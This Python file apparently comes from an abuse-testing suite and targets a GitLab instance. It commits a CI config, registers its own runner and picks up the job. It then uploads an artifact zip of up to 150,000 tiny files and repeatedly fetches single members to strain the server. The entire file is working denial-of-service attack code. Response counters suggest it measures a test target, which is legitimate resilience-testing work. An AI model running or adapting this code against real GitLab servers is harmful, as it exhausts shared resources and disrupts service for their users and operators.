"""Artifacts made to be dear."""

import io
import zipfile
from collections import Counter

import aiohttp

from scripts.abuse.place import Place, again_and_again, read_all, session

FILE = "job:\n  script: ['true']\n  artifacts:\n    paths: [files]\n"


async def artifact_members(place: Place, answers: "Counter[str]") -> None:
    """One archive of very many files, of which one after the other is read."""
    async with session(place.as_attacker) as http:
        for members in (150_000, 60_000):
            job, status = await _upload(place, http, members)
            answers[f"{members} members {status}"] += 1
            if status == 201:
                break
        urls = f"{place.project(place.mine)}/jobs/{job}/artifacts/files/"

        async def fetch(number: int) -> str:
            async with http.get(f"{urls}{number:06}.txt") as answer:
                return await read_all(answer)

        await again_and_again(8, fetch, answers)


async def _upload(place: Place, http: aiohttp.ClientSession, members: int) -> tuple[int, int]:
    """Runs a job as its runner; its id and what the upload of its artifacts was answered."""
    api, project = f"{place.api_url}/api/v4", place.project(place.mine)
    actions = [{"action": "create", "file_path": ".gitlab-ci.yml", "content": FILE}]
    branch = f"members{members}"
    commit = {"branch": branch, "start_branch": "main", "commit_message": "Job", "actions": actions}
    async with http.post(f"{project}/repository/commits", json=commit) as answer:
        answer.raise_for_status()
    async with http.get(project) as answer:
        project_id = (await answer.json())["id"]
    runner = {"runner_type": "project_type", "project_id": project_id, "run_untagged": True}
    async with http.post(f"{api}/user/runners", json=runner) as answer:
        token = (await answer.json())["token"]
    while True:
        async with http.post(f"{api}/jobs/request", json={"token": token}) as answer:
            given = await answer.json() if answer.status == 201 else None
        if given and given["git_info"]["ref"] == branch:
            break
    form = aiohttp.FormData()
    form.add_field("file", _archive(members), filename="artifacts.zip")
    headers = {"JOB-TOKEN": given["token"]}
    async with http.post(f"{api}/jobs/{given['id']}/artifacts", data=form, headers=headers) as answer:
        status = answer.status
    async with http.put(f"{api}/jobs/{given['id']}", json={"token": given["token"], "state": "success"}):
        return given["id"], status


def _archive(members: int) -> bytes:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w") as archive:
        for number in range(members):
            archive.writestr(f"files/{number:06}.txt", b"x")
    return file.getvalue()
